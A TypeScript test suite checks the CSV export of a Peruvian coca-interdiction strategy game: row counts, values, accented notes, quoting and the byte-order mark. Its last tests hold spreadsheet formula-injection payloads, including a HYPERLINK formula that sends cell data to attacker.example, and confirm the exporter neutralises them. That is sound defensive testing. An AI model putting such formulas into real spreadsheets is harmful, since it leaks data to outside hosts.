/**
 * The CSV files, parsed back with an independent parser and checked against the game: the
 * national and regional series against the states, every event and every order one row, the
 * teams' notes (accents, commas, quotes, line breaks) intact, and the byte-order mark on request.
 */
import { describe, expect, it } from 'vitest';
import {
  DECISION_COLUMNS,
  EVENT_COLUMNS,
  NATIONAL_COLUMNS,
  REGION_COLUMNS,
  SIDES,
  appendTurn,
  createGame,
  csvField,
  findScenario,
  newLog,
  resolveTurn,
  toCsv,
  totalCocaHa,
  type GameEvent,
  type Order,
} from '../../game/index';
import { cliI18n } from '../../cli/i18n';
import { reportCsvFiles } from '../../report/csv';
import { describeEvent, describeOrder } from '../../report/describe';
import { eventSide } from '../../report/event-log';
import { csvRecords, NOTES, parseCsv, sixTurnGame } from './helpers';

const game = sixTurnGame();
const turns = game.log.entries.length;
const history = game.states[game.states.length - 1]!.history;
const num = (s: string | undefined) => Number(s);

describe.each(['en', 'es'] as const)('the CSV files (%s)', (lang) => {
  const { t } = cliI18n(lang);
  const files = Object.fromEntries(reportCsvFiles(game, t).map((f) => [f.name, f.content]));

  it('are the four tables, in order, without a byte-order mark by default', () => {
    expect(reportCsvFiles(game, t).map((f) => f.name)).toEqual(['national.csv', 'regions.csv', 'events.csv', 'decisions.csv']);
    for (const text of Object.values(files)) {
      expect(text.charCodeAt(0)).not.toBe(0xfeff);
      expect(text.endsWith('\n')).toBe(true);
      expect(text).not.toMatch(/\d[eE][+-]?\d|NaN|Infinity|undefined/);
    }
  });

  it('national.csv: one row per turn, coca and exports as in the history', () => {
    const { header, records } = csvRecords(files['national.csv']!);
    expect(header).toEqual([...NATIONAL_COLUMNS]);
    expect(records).toHaveLength(turns);
    records.forEach((r, i) => {
      const h = history[i]!;
      expect(num(r.turn)).toBe(h.turn);
      expect(num(r.coca_ha)).toBeCloseTo(h.cocaHa, 3);
      expect(num(r.exported_t)).toBeCloseTo(h.exportedT, 3);
      expect(num(r.us_support)).toBeCloseTo(h.usSupport, 3);
      expect(num(r.score_state)).toBeCloseTo(h.scores.state, 3);
    });
  });

  it("regions.csv: turns × 26 rows, each region's coca and forces as in that turn's state", () => {
    const { header, records } = csvRecords(files['regions.csv']!);
    expect(header).toEqual([...REGION_COLUMNS]);
    expect(records).toHaveLength(turns * 26);
    records.forEach((r, i) => {
      const state = game.states[Math.floor(i / 26) + 1]!;
      const region = state.regions[i % 26]!;
      expect(num(r.turn)).toBe(state.turn);
      expect(r.region).toBe(region.id);
      expect(num(r.coca_ha)).toBeCloseTo(totalCocaHa(region), 3);
      expect(num(r.state_forces)).toBe(region.army + region.police);
      expect(r.control).toBe(region.control);
    });
  });

  it('events.csv: one row per event, with its numbers and its sentence', () => {
    const { header, records } = csvRecords(files['events.csv']!);
    expect(header).toEqual([...EVENT_COLUMNS]);
    const all: GameEvent[] = game.events.flat();
    expect(records).toHaveLength(all.length);
    records.forEach((r, i) => {
      const e = all[i]!;
      expect(num(r.turn)).toBe(e.turn);
      expect(r.type).toBe(e.type);
      expect(r.region).toBe('region' in e && typeof e.region === 'string' ? e.region : '');
      expect(r.side).toBe(eventSide(e) ?? '');
      expect(r.to).toBe('to' in e && typeof e.to === 'string' ? e.to : '');
      expect(r.text).toBe(describeEvent(t, e));
      const numbers = Object.fromEntries(
        r
          .numbers!.split(';')
          .filter(Boolean)
          .map((kv) => kv.split('=') as [string, string]),
      );
      for (const [k, v] of Object.entries(e))
        if (k !== 'turn' && typeof v === 'number') expect(num(numbers[k]), `${e.type}.${k}`).toBeCloseTo(v, 3);
    });
    // Accented names arrive intact, and sentences with commas survived the quoting.
    expect(records.some((r) => r.text!.includes('Junín'))).toBe(true);
    expect(records.some((r) => r.text!.includes(','))).toBe(true);
    const override = records.find((r) => r.type === 'overrideApplied')!;
    expect(override.text).toContain('new survey, "DEVIDA 2016", Junín');
  });

  it('decisions.csv: one row per order (or one for a side without orders), with the notes intact', () => {
    const { header, records } = csvRecords(files['decisions.csv']!);
    expect(header).toEqual([...DECISION_COLUMNS]);
    const expected = game.log.entries.flatMap((e) =>
      SIDES.flatMap((side): { turn: number; side: string; o: Order | null; note: string }[] => {
        const so = e.input.orders.find((o) => o.side === side);
        const orders = so?.orders ?? [];
        return orders.length
          ? orders.map((o) => ({ turn: e.turn, side, o, note: so?.note ?? '' }))
          : [{ turn: e.turn, side, o: null, note: so?.note ?? '' }];
      }),
    );
    expect(records).toHaveLength(expected.length);
    records.forEach((r, i) => {
      const x = expected[i]!;
      expect(num(r.turn)).toBe(x.turn);
      expect(r.side).toBe(x.side);
      expect(r.note).toBe(x.note);
      if (!x.o) {
        expect(r.kind).toBe('');
        return;
      }
      const o = x.o as { kind: string; region?: string; to?: string; exit?: string; amount?: number; value?: string | number };
      expect(r.kind).toBe(o.kind);
      expect(r.region).toBe(o.region ?? '');
      expect(r.target).toBe(o.exit ?? o.to ?? '');
      if (o.amount !== undefined) expect(num(r.amount)).toBeCloseTo(o.amount, 3);
      else expect(r.amount).toBe('');
      expect(r.value).toBe(o.value === undefined ? '' : csvField(o.value));
      expect(r.description).toBe(describeOrder(t, x.o));
    });
    expect(records.filter((r) => r.side === 'state').every((r) => r.note === NOTES.state)).toBe(true);
    expect(NOTES.state).toContain('\n');
  });

  it('put a byte-order mark first when asked (for Excel), and nothing else changes', () => {
    const bom = reportCsvFiles(game, t, { bom: true });
    for (const f of bom) {
      expect(f.content.charCodeAt(0)).toBe(0xfeff);
      expect(f.content.slice(1)).toBe(files[f.name]);
    }
  });
});

describe('CSV quoting', () => {
  it('round-trips any text through the parser', () => {
    const nasty = [
      'plain',
      'a,b',
      'say "hi"',
      'two\nlines',
      'crlf\r\nline',
      '"',
      '',
      ' lead and trail ',
      'Apurímac, Junín y Huánuco',
      'x=1+1',
      'ñ€😀',
    ];
    const text = toCsv({ columns: ['a', 'b'], rows: nasty.map((x, i) => [i, x]) });
    expect(parseCsv(text)).toEqual([['a', 'b'], ...nasty.map((x, i) => [String(i), x])]);
    expect(parseCsv(toCsv({ columns: ['x'], rows: [['é']] }, { bom: true }))).toEqual([['x'], ['é']]);
  });

  it('neutralises text that a spreadsheet would run as a formula, and leaves numbers numbers', () => {
    const formulas = ['=1+1', '+SUM(A1:A9)', '-2+3', '@SUM(1)', '\tcmd', '\rcmd', '=HYPERLINK("http://x.example","a,b")'];
    const text = toCsv({ columns: ['n', 'text'], rows: formulas.map((f, i) => [-(i + 0.5), f]) });
    const rows = parseCsv(text).slice(1);
    rows.forEach(([n, cell], i) => {
      expect(cell).toBe(`'${formulas[i]}`);
      // A negative number in a numeric column is still a number (no apostrophe, no quotes).
      expect(n).toBe(String(-(i + 0.5)));
    });
    expect(text.split('\n')[1]).toBe("-0.5,'=1+1");
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(-12)).toBe('-12');
  });

  it('neutralises a formula a team typed in its note, in decisions.csv of a real game', () => {
    const scenario = findScenario('interdiction-2016')!;
    const start = createGame(scenario, 3, { turns: 2 });
    const note = '=HYPERLINK("http://attacker.example/?"&A1,"Click for the briefing")';
    const input = {
      orders: [
        { side: 'state' as const, orders: [], note },
        { side: 'clans' as const, orders: [], note: '-offload at Paita' },
      ],
    };
    const r = resolveTurn(start, input);
    if (!r.ok) throw new Error(r.errors[0]!.message);
    const log = appendTurn(newLog(start), input, r.state);
    const { t } = cliI18n('en');
    const csv = reportCsvFiles({ log, states: [start, r.state], events: [r.events] }, t).find((f) => f.name === 'decisions.csv')!.content;
    const { records } = csvRecords(csv);
    expect(records.find((x) => x.side === 'state')!.note).toBe(`'${note}`);
    expect(records.find((x) => x.side === 'clans')!.note).toBe("'-offload at Paita");
    expect(records.find((x) => x.side === 'insurgents')!.note).toBe('');
    // The log keeps the note as typed: only the spreadsheet export is neutralised.
    expect(log.entries[0]!.input.orders[0]!.note).toBe(note);
  });
});
